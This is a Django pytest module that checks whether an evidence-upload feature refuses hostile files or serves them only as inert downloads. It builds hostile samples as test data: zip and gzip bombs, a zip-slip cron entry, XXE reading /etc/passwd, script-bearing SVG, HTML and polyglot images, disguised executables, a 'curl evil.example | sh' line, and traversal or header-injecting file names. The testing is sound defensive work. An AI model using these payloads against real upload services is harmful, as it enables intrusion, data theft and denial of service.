"""Files that mean harm: each is refused, or handed out as a download that no browser acts upon; none is unpacked."""

import gzip
import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import BinaryIO

import PIL.Image
import pytest
from django.core.files.storage import default_storage
from django.test import Client
from pytest_django import Settings

from approvals.actions.files import begin_upload, finish_upload, receive_piece
from approvals.filetypes import UNKNOWN
from approvals.models import Evidence, EvidenceFile, Upload
from releases.models import Gate
from tests.cast import Cast, at
from tests.pages.stories import address, client_of, days_ago, market_of, release_of_today, thing

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
TEXT, ZIP, DOCX = (
    "text/plain",
    "application/zip",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
)


def archive(*members: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as found:
        for name, data in members:
            found.writestr(name, data)
    return stream.getvalue()


def png(width: int, height: int, rest: bytes = b"") -> bytes:
    """A header that says so large, and a few bytes of rows."""
    header = struct.pack(">4sIIBBBBB", b"IHDR", width, height, 8, 2, 0, 0, 0)
    rows = b"IDAT" + zlib.compress(bytes(5000))
    chunks = [struct.pack(">I", len(c) - 4) + c + struct.pack(">I", zlib.crc32(c)) for c in (header, rows, b"IEND")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + rest


def with_long_directory() -> bytes:
    """A zip whose end says that its list of members is 4 GB long."""
    data = bytearray(archive(("a.txt", b"a")))
    data[-10:-6] = b"\xff\xff\xff\xff"
    return bytes(data)


BOMB = archive(("zeros", bytes(3_000_000)))
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0"

# what it is, its name, its bytes, what it is found to be (or the code of the refusal)
HOSTILE: list[tuple[str, str, bytes, str]] = [
    ("a zip bomb", "bomb.zip", BOMB, ZIP),
    ("a bomb of bombs", "nested.zip", archive(*((f"{n}.zip", BOMB) for n in range(20))), ZIP),
    ("a zip with a way out", "slip.zip", archive(("../../../etc/cron.d/evil", b"* * * * * root sh")), ZIP),
    ("a zip that says it is huge", "directory.zip", with_long_directory(), ZIP),
    ("a gzip bomb", "bomb.gz", gzip.compress(bytes(3_000_000)), "application/gzip"),
    (
        "a document with macros",
        "plan.docm",
        archive(("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", b"Sub AutoOpen()")),
        DOCX,
    ),
    ("an SVG with script", "logo.svg", SVG, UNKNOWN),
    ("an SVG behind spaces, called PNG", "logo.png", b"\n\n \t" + SVG, UNKNOWN),
    ("entities that multiply", "laughs.xml", LAUGHS, UNKNOWN),
    ("an entity that reads files", "xxe.svg", XXE, UNKNOWN),
    ("HTML", "page.html", HTML, UNKNOWN),
    ("HTML called PDF", "page.pdf", HTML, UNKNOWN),
    ("HTML in UTF-16", "page.txt", HTML.decode().encode("utf-16"), UNKNOWN),
    ("HTML in UTF-7", "page.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", TEXT),
    ("HTML far behind words", "page.txt", b"words " * 2000 + HTML, TEXT),
    ("PNG and HTML at once", "both.png", png(4, 4, HTML), "image/png"),
    ("GIF and script at once", "both.gif", b"GIF89a/*\1\0\x80\0\0*/=1;alert(1)", "image/gif"),
    ("JPEG and HTML at once", "both.jpg", JPEG + b"\xff\xfe\x00\x40" + HTML, "image/jpeg"),
    ("PDF and HTML at once", "both.pdf", b"%PDF-1.7\n1 0 obj<</S/JavaScript>>" + HTML, "application/pdf"),
    ("a program called PDF", "invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200), UNKNOWN),
    ("a program of Linux called document", "plan.docx", b"\x7fELF\x02\x01\x01" + bytes(200), UNKNOWN),
    ("a shell script", "run.sh", b"#!/bin/sh\ncurl evil.example | sh\n", TEXT),
    ("a shortcut", "Plan.url", b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n", TEXT),
    ("a message with a page in it", "old.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML, UNKNOWN),
    ("a picture of 50,000 by 50,000", "wall.png", png(50_000, 50_000), UNKNOWN),
    ("a GIF of 65,535 by 65,535", "wall.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0\0\0", UNKNOWN),
    ("a JPEG of 60,000 by 60,000", "wall.jpg", JPEG + b"\xff\xc0\x00\x11\x08" + b"\xea\x60" * 2, UNKNOWN),
    ("a WebP of 16,384 by 16,384", "wall.webp", b"RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\x3f\0" * 2, UNKNOWN),
    ("the test virus", "eicar.com", EICAR, "infected"),
    ("the test virus in a text", "notes.txt", b"Dear all,\n" + EICAR, "infected"),
    ("nothing at all", "empty.pdf", b"", "empty_file"),
    ("more than the limit", "large.bin", bytes(3_000_001), "too_large"),
]  # fmt: skip

# a name as a browser sends it, and what is left of it
NAMES: list[tuple[str, str]] = [
    ("../../../etc/passwd", "passwd"),
    ("..\\..\\windows\\system32\\evil.dll", "evil.dll"),
    ("..", "file"),
    (".htaccess", "htaccess"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("a\r\nSet-Cookie: x=1\r\n\r\n<html>.pdf", "aSet-Cookie x=1html.pdf"),
    ("plan.pdf\0.exe", "plan.pdf.exe"),
    ('"><script>alert(1)</script>.pdf', "script.pdf"),
    ("\u200b\ufeff", "file"),
    ("CON.", "CON"),
    ("a" * 251 + ".pdf", "a" * 187 + ".pdf"),
    ("\U0001f600" * 255, "\U0001f600" * 200),
]  # fmt: skip


def finds_eicar(stream: BinaryIO) -> str:
    """A scanner that knows one virus."""
    return "Eicar-Test-Signature" if EICAR in stream.read() else ""


@pytest.fixture
def gate(cast: Cast, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Gate:
    """An open gate on a server that fails as soon as it unpacks or draws something."""
    settings.EVIDENCE_SCANNER = f"{__name__}.finds_eicar"
    settings.EVIDENCE_FILE_LIMIT = 3_000_000

    def never(*_words: object, **_more: object) -> None:
        raise AssertionError("A stranger's file is never unpacked.")

    for thing_, name in (
        (zipfile.ZipFile, "open"),
        (zlib, "decompressobj"),
        (gzip, "GzipFile"),
        (PIL.Image, "open"),
    ):
        monkeypatch.setattr(thing_, name, never)
    return market_of(release_of_today(cast))


def problem_of(client: Client, gate: Gate, file: EvidenceFile, data: bytes) -> str:
    """What is wrong with how a file is handed out, or nothing."""
    answer = client.get(address(gate, f"evidence/brief/{file.versions.get().version}/files/{file.pk}/"))
    if answer.status_code != 200 or b"".join(answer.streaming_content) != data:  # type: ignore[arg-type]
        return "other bytes"
    disposition = answer.headers["Content-Disposition"]
    wanted = {
        "Content-Type": "application/octet-stream",
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "sandbox; default-src 'none'",
        "Cache-Control": "private, no-store",
    }
    if any(answer.headers[name] != value for name, value in wanted.items()):
        return "a browser may act upon it"
    if not disposition.startswith("attachment; filename") or not disposition.isprintable() or not disposition.isascii():
        return f"not a download: {disposition!r}"
    is_image = file.content_type.startswith("image/")
    if not is_image and not file.name.startswith(("wall", "logo")):
        return ""
    image = client.get(address(gate, f"evidence/brief/{file.versions.get().version}/images/{file.pk}/"))
    if image.status_code != (200 if is_image else 404):
        return f"as an image: {image.status_code}"
    if is_image and image.headers["Content-Security-Policy"] != wanted["Content-Security-Policy"]:
        return "shown outside of a sandbox"
    if is_image and image.headers["Content-Type"] != file.content_type:
        return "shown as something else"
    return ""


def multipart(name: bytes, data: bytes) -> bytes:
    """A form as a hostile client writes it, with the name as it likes."""
    parts = [
        b'--sep\r\nContent-Disposition: form-data; name="kind"\r\n\r\nfile\r\n',
        b'--sep\r\nContent-Disposition: form-data; name="version"\r\n\r\n\r\n',
        b'--sep\r\nContent-Disposition: form-data; name="file"; filename="'
        + name
        + b'"\r\nContent-Type: text/html\r\n\r\n',
        data,
        b"\r\n--sep--\r\n",
    ]
    return b"".join(parts)


def test_thirty_hostile_files_are_refused_or_downloads(cast: Cast, gate: Gate) -> None:
    client = client_of(cast.pm)
    wrong: dict[str, str] = {}
    for what, name, data, found in HOSTILE:
        stored = EvidenceFile.objects.count()
        url = address(gate, "evidence/brief/")
        answer = client.post(url, multipart(name.encode(), data), content_type="multipart/form-data; boundary=sep")
        if EvidenceFile.objects.count() == stored:
            is_meant = "/" not in found
            wrong[what] = "" if is_meant and answer.status_code == 422 else f"refused: {answer.status_code}"
            continue
        file = EvidenceFile.objects.latest("pk")
        wrong[what] = (
            f"is {file.content_type}" if file.content_type != found else "" if file.name == name else file.name
        ) or problem_of(client, gate, file, data)
    assert {what: problem for what, problem in wrong.items() if problem} == {}
    assert len(wrong) == len(HOSTILE) >= 30
    on_disk = [path for path in Path(default_storage.path("")).rglob("*") if path.is_file()]
    assert len(on_disk) == EvidenceFile.objects.count() == sum("/" in found for _what, _name, _data, found in HOSTILE)


def test_hostile_names_end_as_plain_ones_in_a_form_and_piece_by_piece(cast: Cast, gate: Gate) -> None:
    client, wrong = client_of(cast.pm), {}
    for name, left in NAMES:
        begun = begin_upload(deliverable_id=thing(gate).pk, actor=cast.pm, name=name, size=4, clock=at(days_ago(1)))
        receive_piece(upload_id=begun.pk, actor=cast.pm, offset=0, data=b"%PDF", clock=at(days_ago(1)))
        if (found := finish_upload(upload_id=begun.pk, actor=cast.pm, clock=at(days_ago(1))).name) != left:
            wrong[name] = found
        Upload.objects.all().delete()
        before = Evidence.objects.count()
        url, escaped = address(gate, "evidence/brief/"), name.replace('"', "%22").replace("\r\n", "%0D%0A")
        answer = client.post(
            url, multipart(escaped.encode(), b"%PDF"), content_type="multipart/form-data; boundary=sep"
        )
        if Evidence.objects.count() == before:
            if answer.status_code not in (400, 422):
                wrong[name] = f"in a form: {answer.status_code}"
            continue
        file = EvidenceFile.objects.latest("pk")
        if problem := problem_of(client, gate, file, b"%PDF"):
            wrong[name] = problem
        if not file.name.isprintable() or set(file.name) & set('/\\"<>') or str(file.file.name).count("/") != 2:
            wrong[name] = file.name
    assert wrong == {}
